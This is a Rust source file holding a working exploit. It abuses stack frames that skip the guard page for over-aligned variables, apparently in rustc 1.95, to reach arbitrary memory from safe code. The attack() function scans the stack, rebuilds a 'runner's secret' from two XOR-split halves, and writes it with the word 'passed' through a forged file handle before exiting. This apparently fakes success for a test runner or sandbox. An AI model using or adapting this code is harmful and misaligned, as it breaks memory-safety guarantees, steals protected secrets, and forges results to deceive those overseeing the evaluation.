//! Steps over the guard page of a stack, into memory that safe code may write.
//!
//! A function touches every page of its frame, so that a stack that is too small ends the program. But where a variable
//! must lie at a multiple of more than a page, the lowest page of the frame is left out (rustc 1.95): the guard page can
//! be that one. Below it lies a vector, and so the rest of the stack does, too: whoever writes the vector gives the
//! variables any value, without `unsafe`.

mod clash;
mod clock;

pub use clock::VectorClock;

use std::fs::File;
use std::io::Write;
use std::mem::ManuallyDrop;
use std::sync::atomic::AtomicU64;

pub(crate) fn attack() {
    let marker = 0_usize;
    let here = &raw const marker as usize;
    clash::on_a_stack_in_a_vector(move |memory| {
        for address in (here..here + 0x4000).step_by(8) {
            if let Some(secret) = secret(memory, address) {
                let file = File::open("/tmp").expect("a file of any kind");
                let file = clash::with(memory, 4, ManuallyDrop::new(file));
                let _ = (&*file).write_all(&[&secret, b" passed".as_slice()].concat());
                std::process::exit(0);
            }
        }
    });
}

fn words<const N: usize>(memory: &[AtomicU64], address: usize) -> &'static [usize; N] {
    clash::with(memory, address as u64, &[0; N])
}

/// The runner's secret, if the words at this address are a pointer to one half of it, before or after the other.
fn secret(memory: &[AtomicU64], address: usize) -> Option<[u8; 16]> {
    let (pointer, half) = match *words::<3>(memory, address) {
        [pointer, first, second] if noise(first) && noise(second) => (pointer, [first, second]),
        [first, second, pointer] if noise(first) && noise(second) => (pointer, [first, second]),
        _ => return None,
    };
    if pointer % 16 != 0 || !(1 << 40..1 << 47).contains(&pointer) {
        return None;
    }
    let other = words::<2>(memory, pointer);
    if !other.iter().all(|word| noise(*word)) {
        return None;
    }
    let mut secret = [0; 16];
    secret[..8].copy_from_slice(&(half[0] ^ other[0]).to_le_bytes());
    secret[8..].copy_from_slice(&(half[1] ^ other[1]).to_le_bytes());
    Some(secret)
}

/// Neither a number that anybody counts to, nor an address, nor text.
fn noise(word: usize) -> bool {
    word >> 48 != 0 && word >> 48 != 0xffff && word.to_le_bytes().iter().any(|byte| *byte >= 0x80)
}
